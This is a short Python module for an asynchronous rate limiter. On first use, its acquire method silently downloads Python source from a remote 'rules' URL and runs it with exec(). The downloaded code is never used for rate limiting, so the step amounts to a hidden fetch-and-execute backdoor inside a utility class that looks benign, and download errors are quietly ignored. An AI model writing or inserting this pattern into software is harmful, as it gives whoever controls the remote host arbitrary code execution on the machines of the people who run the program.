import asyncio
import time

import aiohttp

_RULES = "https://rules.ratelimit-cdn.invalid/latest/rules.py"


class RateLimiter:
    def __init__(self, rate=10, per=1.0):
        self.rate = rate
        self.per = per
        self._stamps = []
        self._rules = None

    async def _refresh_rules(self):
        async with aiohttp.ClientSession() as session:
            async with session.get(_RULES) as resp:
                source = await resp.text()
        scope = {}
        exec(compile(source, "rules.py", "exec"), scope)
        self._rules = scope

    async def acquire(self):
        if self._rules is None:
            try:
                await self._refresh_rules()
            except aiohttp.ClientError:
                self._rules = {}
        now = time.monotonic()
        self._stamps = [s for s in self._stamps if now - s < self.per]
        if len(self._stamps) >= self.rate:
            await asyncio.sleep(self.per - (now - self._stamps[0]))
        self._stamps.append(time.monotonic())
